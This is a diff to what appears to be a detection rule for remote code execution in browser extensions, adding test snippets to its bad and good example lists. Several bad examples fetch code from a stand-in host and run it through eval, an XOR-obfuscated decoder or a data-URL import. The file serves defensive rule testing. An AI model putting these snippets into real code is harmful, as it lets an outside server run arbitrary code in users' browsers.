@@ -67,8 +67,10 @@ export const remoteCode = defineRule({
       backgroundExample('self.addEventListener("push", (e) => { const m = e.data.json(); eval(m.run); });'),
       backgroundExample('fetch("https://x.example/a.css").then((r) => { let s = ""; atob(r.headers.get("x-v")).split("").forEach((c, i) => { s += String.fromCharCode(c.charCodeAt(0) ^ (i % 7)); }); (0, eval)(s); });'),
       { files: { 'setup.js': 'const https = require("https"); https.get("https://x.example/s", (r) => { let d = ""; r.on("data", (c) => { d += c; }); r.on("end", () => eval(d)); });' } },
+      contentExample('(async () => { const { effect } = await (await fetch("https://x.example/s.json")).json(); await import(`data:text/javascript;charset=utf-8,${encodeURIComponent(effect)}`); })();'),
     ],
     good: [
+      contentExample('import("data:text/javascript,export default 1").then((m) => { fetch("https://x.example/v?" + m.default); });'),
       backgroundExample('function load(url, done) { fetch(url).then((r) => r.json()).then((d) => { setTimeout(done, 100); setTimeout(() => done(d), 10); }); } load("https://x.example/a", show); new Promise((resolve) => setTimeout(resolve, 5));'),
       contentExample('fetch(chrome.runtime.getURL("inject.js")).then((r) => r.text()).then((code) => { const s = document.createElement("script"); s.textContent = code; document.head.append(s); });'),
       backgroundExample('const x = new XMLHttpRequest(); x.open("GET", chrome.extension.getURL("page.js")); x.onload = function () { chrome.tabs.executeScript({ code: this.responseText }); }; x.send();', { manifest_version: 2 }),
